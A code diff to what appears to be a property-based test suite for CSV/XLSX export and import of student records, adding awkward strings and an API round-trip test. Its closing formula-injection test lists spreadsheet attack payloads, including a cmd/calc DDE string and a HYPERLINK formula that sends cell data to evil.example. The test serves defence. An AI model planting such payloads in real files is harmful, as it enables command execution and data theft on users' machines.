@@ -42,6 +42,11 @@ const awkward = fc.constantFrom(
   '\uFFFF',
   '\\N',
   '#REF',
+  '# ',
+  '\uFFFD',
+  '\x1b$B',
+  'E+10',
+  '0',
   ' ',
 );
 const errors = fc.constantFrom('#N/A', '#NAME?', '#REF!', '#DIV/0!', "'#N/A");
@@ -57,8 +62,7 @@ const stored = fc
   )
   .map((pieces) => pieces.join('').replaceAll('\0', '').trim().normalize('NFC'))
   .filter((text) => /[^\s\p{Default_Ignorable_Code_Point}]/u.test(text) && text.isWellFormed())
-  // An import refuses a replacement character, which stands for bytes that were lost.
-  .filter((text) => !findInvisibleCharacter(text, 'identifier') && !text.includes('\uFFFD'));
+  .filter((text) => !findInvisibleCharacter(text, 'identifier'));
 
 test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('exports %s as text and imports it unchanged', async (text) => {
   const user = await app.current.make.aUser({ role: 'registrar' });
@@ -98,6 +102,51 @@ test.each(['csv', 'xlsx'])('exports any texts as .%s and imports them without ch
   expect(body.errors).toEqual([]);
   expect(body).toMatchObject({ total_rows: 400, unchanged: 400, updated: 0, created: 0 });
 });
+
+test.each(['csv', 'xlsx'])(
+  'exports whatever students REST accepts as .%s and imports them without changes',
+  async (format) => {
+    const user = await app.current.make.aUser({ role: 'registrar' });
+    const client = await app.current.as(user);
+    const course = { name: 'A;B', code: '5A' };
+    const classes = [
+      await app.current.make.aClass(user.institution, course),
+      await app.current.make.aClass(user.institution, { name: '5A', code: "'=1" }),
+      await app.current.make.aClass(user.institution, { name: 'A;B', code: '# 1' }),
+    ];
+    const optional = (arbitrary: fc.Arbitrary<unknown>) => fc.option(arbitrary, { freq: 3 });
+    const number = fc.constantFrom(
+      '0077',
+      '77',
+      '77.0',
+      '1,234',
+      '1.234,5',
+      '1.5E+10',
+      '12345.6',
+      '+1 541 555 0100',
+      '0171.2345678',
+    );
+    const student = fc.record({
+      student_id: fc.oneof({ weight: 9, arbitrary: stored }, { weight: 1, arbitrary: number }),
+      first_name: fc.oneof(fc.constant(''), stored),
+      last_name: stored,
+      phone: optional(fc.constantFrom('+1 541 555 0100', '171.2345', '5,415,550,177', '0171.2345678')),
+      date_of_birth: optional(fc.constantFrom('1900-01-02', '1900-02-28', '1900-03-01', '1999-12-31', '2020-02-29')),
+      class_id: optional(fc.constantFrom(...classes)),
+      address: optional(
+        fc.record({ street: optional(stored), zip: optional(fc.oneof(stored, number)), city: optional(stored) }),
+      ),
+    });
+    let accepted = 0;
+    for (const values of fc.sample(student, 80))
+      accepted += (await client.post('/students', values)).status === 201 ? 1 : 0;
+    expect(accepted).toBeGreaterThan(40);
+    const { bytes } = await client.download(`/students/export?format=${format}`);
+    const { body } = await client.post('/students/import', formWith(bytes, { mode: 'upsert' }));
+    expect(body.errors).toEqual([]);
+    expect(body).toMatchObject({ total_rows: accepted, unchanged: accepted });
+  },
+);
 
 test('prefixes texts that begin like a number and continue as a formula', async () => {
   const run = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example/?"&E2,"x")', '-1 A1', '+1\n=A1'];
